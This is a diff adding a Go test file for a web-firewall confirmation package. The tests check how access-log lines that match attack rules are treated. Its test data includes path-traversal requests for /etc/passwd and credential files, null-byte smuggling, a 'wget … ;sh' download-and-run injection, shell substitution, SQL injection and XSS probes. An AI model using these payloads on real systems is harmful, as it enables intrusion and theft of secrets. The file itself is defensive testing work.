@@ -1,0 +1,55 @@
+package confirm
+
+import "testing"
+
+const (
+	logged  = `203.0.113.7 - - [11/May/2026:07:12:44 +0000] "GET /`
+	browser = ` HTTP/1.1" 404 153 "-" "Mozilla/5.0"`
+)
+
+// fileRules are those about names of files.
+var fileRules = []int{930100, 930110, 930120, 930130, 932160}
+
+func TestWhatALineOfAnAccessLogTellsIsNoNameOfAFile(t *testing.T) {
+	for _, text := range []string{
+		logged + ".env" + browser, logged + ".git/config" + browser, logged + "a?page=../../../../etc/passwd" + browser,
+		logged + "cgi-bin/.%2e/.%2e/bin/sh" + ` HTTP/1.1" 400 157`, logged + `etc/passwd HTTP/1.0" 200 -`, logged + "x" + browser + "\n" + logged + ".aws/credentials" + browser + "\r\n",
+		`203.0.113.7 - - [11/May/2026:07:12:44  0000] "GET /.env` + browser,
+		`::1 - ana [11/May/2026:07:12:44 -0700] "POST /proc/self/environ HTTP/2.0" 200 3 "https://a.example/" "a \"b\" c" -`,
+	} {
+		for _, rule := range fileRules {
+			if _, denied := Denied(Match{Rule: rule, Text: text}); !denied {
+				t.Errorf("%d %q is confirmed", rule, text)
+			}
+		}
+	}
+}
+
+// Whoever chooses the end of a text, or where it ends for a system, chooses a file.
+func TestWhatOnlyLooksLikeALineOfAnAccessLogMayBeANameOfAFile(t *testing.T) {
+	const climb = "a?page=../../../../etc/passwd"
+	for _, text := range []string{
+		climb, logged + climb, logged + climb + ` HTTP/1.1" 404 153 ../../../../etc/passwd`, logged + climb + ` HTTP/1.1" 404 153 "-" ../../../../etc/passwd-`,
+		logged + climb + "\x00" + browser, logged + climb + "%00" + browser, logged + climb + `\0` + browser, logged + climb + browser + "\n../../../../etc/passwd",
+		"../../../../etc/passwd - - [11/May/2026:07:12:44 +0000] \"GET / HTTP/1.1\" 200 1", `203.0.113.7 - - [yesterday] "GET /` + climb + browser,
+		logged + climb + ` HTTP/1.1" 4x4 153 "-"`, "",
+	} {
+		if isAccessLog(text) {
+			t.Errorf("%q is taken for a line of a log", text)
+		}
+		if _, denied := Denied(Match{Rule: 930110, Text: text}); denied && text != "" {
+			t.Errorf("%q is denied", text)
+		}
+	}
+}
+
+func TestALineOfAnAccessLogMayBeACommandOrAStatement(t *testing.T) {
+	for rule, text := range map[int]string{
+		932235: logged + "x;wget http://203.0.113.9/a.sh;sh a.sh" + browser, 932160: logged + `$(cat /etc/hosts)` + browser,
+		942100: logged + "?id=1' OR '1'='1' --" + browser, 941110: logged + "?q=<script>alert(1)</script>" + browser,
+	} {
+		if reason, denied := Denied(Match{Rule: rule, Text: text}); denied {
+			t.Errorf("%d %q: %s", rule, text, reason)
+		}
+	}
+}
